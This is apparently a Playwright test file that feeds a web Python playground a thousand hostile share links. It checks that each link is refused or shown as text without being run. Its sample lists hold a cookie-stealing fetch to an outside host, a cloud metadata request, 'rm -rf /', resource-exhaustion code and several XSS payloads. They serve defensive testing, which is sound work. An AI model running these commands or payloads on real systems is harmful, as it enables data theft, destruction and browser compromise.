"""A thousand links made to do harm: each is refused in one sentence, or brings text that waits for Run."""

from __future__ import annotations

import base64
import json
import random
import string
import zlib
from typing import Any, NamedTuple

import pytest
from playwright.sync_api import Browser, Page, expect

from tests.site.conftest import unwatched_site

DAMAGED = "The program in this link cannot be read: perhaps a part of the link is missing."
NEWER = "This link was made by a newer version of this page."
LONGEST = 50_000  # characters of a program
DECODE = """async ([base, fragments]) => {
  const { LinkError, fromFragment } = await import(`${base}assets/playground/link.js`);
  const one = (fragment) => fromFragment(fragment).then(
    (found) => (found === null ? { none: true } : { keys: Object.keys(found), ...found }),
    (error) => ({ refused: error instanceof LinkError ? error.message : `${error.name}: ${error.message}` }),
  );
  const answers = [];
  for (const fragment of fragments) answers.push(await one(fragment));
  return { answers, polluted: {}.polluted ?? [].polluted ?? null };
}"""

EVIL_CODE = [
    "import js; js.fetch('https://example.org/?' + js.document.cookie)",
    "from js import document, localStorage; document.body.innerHTML = localStorage.getItem('a')",
    "import pyodide_js; pyodide_js.runPython.constructor('return self')().postMessage({'fatal': 1})",
    "from pyodide.code import run_js; run_js('top.location = \"https://example.org\"')",
    "import urllib.request; urllib.request.urlopen('http://169.254.169.254/')",
    "while True: pass",
    "import os; os.system('rm -rf /')",
    "__import__('builtins').exec('1')",
    "x = [0] * 10**12",
]
MARKUP = [
    "<img src=x onerror=window.hacked=1>",
    "</script><script>window.hacked=1</script>",
    "<svg onload=window.hacked=1>",
    "{{constructor.constructor('window.hacked=1')()}}",
    "javascript:window.hacked=1",
    "<iframe srcdoc='<script>parent.hacked=1</script>'>",
    "]]><!--<style>*{display:none}</style>",
    "\u202egnp.exe\u2066\u0000\ud800\ufffe",
]
STEPS = [float("nan"), float("inf"), -1, -(2**63), 2**53, 10**400, 1.5, "7", "<b>", None, True, [], {}, {"valueOf": 1}]
SHAPES = [None, True, 0, 1e308, "text", [], [1], {}, {"step": 1}, {"source": None}, {"source": 7}, {"source": ["a"]}]
SHAPES += [{"source": {"length": 1}}, {"Source": "a"}, [{"source": "a"}], {"source": {"toString": "a"}}]
PROTOTYPES = ["__proto__", "constructor", "prototype", "toString", "hasOwnProperty", "then"]


class Link(NamedTuple):
    """A fragment, and what must become of it: refused, or its text, or (None) either."""

    kind: str
    fragment: str
    refused: str | None = None
    source: str | None = None


def pack(data: bytes) -> bytes:
    packer = zlib.compressobj(9, wbits=-15)
    return packer.compress(data) + packer.flush()


def link(packed: bytes, prefix: str = "#v1.") -> str:
    return prefix + base64.urlsafe_b64encode(packed).decode().rstrip("=")


def link_to(payload: Any) -> str:
    return link(pack(json.dumps(payload).encode()))


def good(random: random.Random) -> str:
    return link_to({"source": f"print({random.random()})", "step": random.randrange(9)})


# Each kind makes one link; what it does not say about the outcome is free, within the rules that all must keep.
def alphabet(random: random.Random) -> Link:
    text = list(good(random))
    text[random.randrange(4, len(text))] = random.choice(
        " !\"'<>&%+/=\\\n\x00\u00e9\u2028\U0001f600" + string.punctuation[:5]
    )
    return Link("alphabet", "".join(text), refused=DAMAGED)


def truncated(random: random.Random) -> Link:
    text = good(random)
    return Link("truncated", text[: random.randrange(4, len(text) - 4)], refused=DAMAGED)


def flipped(random: random.Random) -> Link:
    text = list(good(random))
    text[random.randrange(4, len(text))] = random.choice(string.ascii_letters)
    return Link("flipped", "".join(text))


def huge(random: random.Random) -> Link:
    return Link("huge", "#v1." + "A" * random.randrange(30_001, 300_000), refused=DAMAGED)


def bomb(random: random.Random) -> Link:
    zeros = b'{"source":"' + b"a" * random.choice([300_000, 3_000_000, 10_000_000]) + b'"}'
    return Link("bomb", link(pack(zeros)), refused=DAMAGED)


def trailing(random: random.Random) -> Link:
    packed = pack(json.dumps({"source": "print(1)"}).encode())
    return Link("trailing", link(packed + random.randbytes(random.randrange(1, 40))))


def noise(random: random.Random) -> Link:
    return Link("noise", link(random.randbytes(random.randrange(1, 400))))


def wrapped(random: random.Random) -> Link:
    """Deflated by another recipe: with the header of zlib or of gzip."""
    data = json.dumps({"source": "print(1)"}).encode()
    return Link("wrapped", link(zlib.compress(data) if random.random() < 0.5 else b"\x1f\x8b" + data), refused=DAMAGED)


def not_text(random: random.Random) -> Link:
    bad = random.choice([b"\xff", b"\xc0\xaf", b"\xed\xa0\x80", b"\xf8\x88\x80\x80\x80", b"\xe2\x82"])
    return Link("not text", link(pack(b'{"source":"' + bad + b'"}')), refused=DAMAGED)


def not_json(random: random.Random) -> Link:
    text = random.choice(
        ["", "{", "print(1)", "{'source':'a'}", '{"source":"a"}{}', '{"source":"a",}', "NaN", "\ufeff{}"]
    )
    return Link("not json", link(pack(text.encode())), refused=DAMAGED)


def deep(random: random.Random) -> Link:
    depth = random.randrange(1_000, 90_000)
    return Link("deep", link(pack(b"[" * depth + b"]" * depth)), refused=DAMAGED)


def wrong_shape(random: random.Random) -> Link:
    return Link("wrong shape", link_to(random.choice(SHAPES)), refused=DAMAGED)


def prototype(random: random.Random) -> Link:
    name = random.choice(PROTOTYPES)
    inner = {"polluted": "yes", "source": "print('other')", "step": 9}
    if random.random() < 0.5:
        return Link("prototype", link_to({name: inner}), refused=DAMAGED)
    return Link("prototype", link_to({name: inner, "source": "print(1)"}), source="print(1)")


def step(random: random.Random) -> Link:
    return Link("step", link_to({"source": "print(1)", "step": random.choice(STEPS)}))


def markup(random: random.Random) -> Link:
    text = random.choice(MARKUP) * random.randrange(1, 4)
    source = random.choice(
        ["# {}", "print({!r})", "import vizgrad as vg\na = vg.TensorNode(1.0, name={!r})\nb = a * a"]
    )
    source = source.format(text)
    return Link("markup", link_to({"source": source, "step": text}), source=source)


def evil(random: random.Random) -> Link:
    source = random.choice(EVIL_CODE)
    return Link(
        "evil", link_to({"source": source, "step": random.randrange(9), "run": True, "autorun": 1}), source=source
    )


def too_long(random: random.Random) -> Link:
    return Link("too long", link_to({"source": "#" * random.randrange(LONGEST + 1, 190_000)}), refused=DAMAGED)


def version(random: random.Random) -> Link:
    number = random.choice([0, 2, 3, 10, 99, 2**31, 10**40])
    return Link("version", good(random).replace("#v1.", f"#v{number}."), refused=NEWER)


def no_link(random: random.Random) -> Link:
    text = random.choice(
        ["#v1", "#V1.abc", "#v.abc", "#v-1.abc", "#playground", "#", "#v1,abc", "#%76%31.abc", "#step=7"]
    )
    return Link("no link", text)


KINDS = [alphabet, truncated, flipped, huge, bomb, trailing, noise, wrapped, not_text, not_json, deep, wrong_shape]
KINDS += [prototype, step, markup, evil, too_long, version, no_link]


def hostile(count: int, seed: int) -> list[Link]:
    """Links of all kinds in turn, the same ones each time."""
    made = random.Random(seed)
    return [KINDS[k % len(KINDS)](made) for k in range(count)]


def test_the_decoder_refuses_a_thousand_links_or_gives_plain_text(page: Page, base_url: str) -> None:
    page.goto(base_url)
    links = hostile(1_000, seed=5)
    for start in range(0, len(links), 100):
        batch = links[start : start + 100]
        said = page.evaluate(DECODE, [base_url, [one.fragment for one in batch]])
        assert said["polluted"] is None
        for one, answer in zip(batch, said["answers"], strict=True):
            judge(one, answer)


def judge(one: Link, answer: dict[str, Any]) -> None:
    if one.refused:
        assert answer == {"refused": one.refused}, one
    elif "refused" in answer:
        assert answer["refused"] == DAMAGED, one
        assert one.source is None, one
    elif "none" in answer:
        assert one.kind == "no link", one
    else:
        assert answer.pop("keys") == ["source", "step", "node"], one
        assert isinstance(answer["source"], str), one
        assert len(answer["source"]) <= LONGEST, one
        number = answer["step"]
        assert number is None or (isinstance(number, int) and 0 <= number < 2**53), one
        assert one.source is None or answer["source"] == one.source, one


def test_opened_as_pages_they_run_nothing_and_reach_nothing(browser: Browser, base_url: str) -> None:
    asked: list[str] = []
    faults: list[str] = []
    with unwatched_site(browser, base_url) as page:
        context = page.context
        context.on("request", lambda request: asked.append(request.url))
        page.on("dialog", lambda dialog: faults.append(dialog.message))
        page.on("pageerror", lambda error: faults.append(str(error)))
        page.on("console", lambda message: message.type == "error" and faults.append(message.text))
        for one in hostile(len(KINDS), seed=8):
            page.goto("about:blank")
            page.goto(f"{base_url}playground/{one.fragment}")
            looks_harmless(page, one)
            assert [worker.url for worker in page.workers if worker.url.startswith("blob:")] == [], one
    assert faults == []
    assert [url for url in asked if not url.startswith((base_url, "data:", "blob:", "about:"))] == []
    assert [url for url in asked if "/vendor/pyodide/" in url] == []


def looks_harmless(page: Page, one: Link) -> None:
    play = page.locator("vg-playground")
    expect(play).to_have_attribute("ready", "")
    assert page.evaluate("window.hacked") is None, one
    expect(play.locator("[data-part=printed]")).to_be_hidden()
    status = play.locator("[data-part=status]")
    if one.refused:
        expect(status).to_have_text(one.refused)
    if one.source:
        expect(play.locator("[data-part=origin]")).to_be_visible()
        expect(page.get_by_role("textbox", name="Your program")).to_contain_text(one.source.splitlines()[-1][:12])


# Text that no editor would let anybody type, and a link can hold.
ODD = {
    "half a letter": "x = '\ud800'\nprint(x)",
    "zero byte": "print(1)\x00print(2)",
    "returns": "print(1)\rprint(2)\r\nprint(3)",
    "marks that turn text round": "print(1) # \u202e)2(tnirp",
    "many brackets": "(" * 20_000 + ")" * 20_000,
    "many minus signs": "-" * 40_000 + "1",
    "a long number": "9" * 49_000,
    "form feed and byte order mark": "\ufeff\x0cprint(1)",
    "one long line": "x = [" + "1," * 20_000 + "]",
    "many lines": "\n" * 49_000 + "1 / 0",
}


@pytest.mark.parametrize("name", ODD)
def test_odd_text_ends_in_a_sentence_when_it_is_run(odd_page: Page, base_url: str, name: str) -> None:
    run = """async ([base, text]) => {
      const { python } = await import(`${base}assets/playground/python.js`);
      const { outcome } = await import(`${base}assets/playground/report.js`);
      return outcome(await python.run(JSON.parse(text), { limit: 60_000 }));
    }"""
    said = odd_page.evaluate(run, [base_url, json.dumps(ODD[name])])
    assert said.startswith(("Finished in", "Stopped by a", "Python itself broke down and was started anew")), said
    assert "\n" not in said
    assert odd_page.evaluate(run, [base_url, json.dumps("print(1)")]).startswith("Finished in")


@pytest.fixture(scope="module")
def odd_page(browser: Browser, base_url: str) -> Any:
    with unwatched_site(browser, base_url, timeout=120_000) as page:  # Pyodide writes its last words to the console
        page.goto(base_url)
        yield page
